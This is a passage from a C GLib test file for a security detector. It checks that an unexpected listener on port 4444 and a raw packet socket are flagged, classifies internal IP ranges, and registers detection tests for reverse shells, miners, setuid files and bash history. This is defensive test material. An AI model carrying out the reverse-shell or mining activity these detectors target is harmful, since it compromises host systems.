  det_socket(&l4444, NULL, NULL, &out);
  g_assert_true(has(s, "unexpected-listener:medium:0"));
  g_assert_true(has(s, "unexpected-listener:low:0"));
  g_assert_cmpuint(s->ids->len, ==, 2);
  CkptSocketInfo pk = {
      .size = sizeof pk, .kind = CKPT_SK_PACKET, .proto_name = "PACKET"};
  det_socket(&pk, NULL, NULL, &out);
  g_assert_true(has(s, "raw-socket:medium:0"));
  seen_free(s);

  g_assert_true(det_address_internal("100.64.1.2"));
  g_assert_true(det_address_internal("fd00::1"));
  g_assert_true(det_address_internal("fe80::1"));
  g_assert_false(det_address_internal("2001:db8::1"));
  g_assert_false(det_address_internal("172.32.0.1"));
  g_assert_true(det_address_internal("172.31.255.255"));
}

int
main(int argc, char **argv)
{
  g_test_init(&argc, &argv, NULL);
  g_test_add_func("/detect/reverse-shell", test_reverse_shell);
  g_test_add_func("/detect/exe", test_exe);
  g_test_add_func("/detect/name-spoofing", test_name_spoofing);
  g_test_add_func("/detect/env-miner", test_env_and_miner);
  g_test_add_func("/detect/memory", test_memory);
  g_test_add_func("/detect/bash-history", test_bash_history);
  g_test_add_func("/detect/patched-code-file", test_patch_judge);
  g_test_add_func("/detect/rootfs", test_rootfs);
  g_test_add_func("/detect/setuid-file", test_setuid);
  g_test_add_func("/detect/posture", test_posture);
  g_test_add_func("/detect/host-namespace", test_host_namespace);
  g_test_add_func("/detect/network", test_network);
  return g_test_run();
}
